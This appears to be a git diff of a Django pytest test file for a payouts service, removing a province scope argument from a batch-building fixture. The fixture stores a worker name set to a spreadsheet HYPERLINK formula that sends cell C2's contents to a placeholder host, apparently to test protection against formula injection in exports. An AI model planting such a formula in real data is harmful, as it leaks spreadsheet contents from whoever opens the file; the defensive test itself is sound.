@@ -7,7 +7,6 @@ import pytest
 from django.urls import reverse
 
 from huzhu.conftest import PASSWORD
-from huzhu.core.scopes import PROVINCE
 from huzhu.members.models import Worker
 from huzhu.payouts import services
 
@@ -20,7 +19,7 @@ FORMULA = '=HYPERLINK("http://x.example/?"&C2,"点我")'
 def batch_with_a_formula_name(approve_claim, maker, checker):
     claim = approve_claim()
     Worker.objects.filter(pk=claim.worker_id).update(name=FORMULA)  # as stored before the name check existed
-    batch = services.build_batch(actor=maker, scope=PROVINCE, filters=everything())
+    batch = services.build_batch(actor=maker, filters=everything())
     services.approve_batch(actor=checker, batch=batch)
     return batch
 
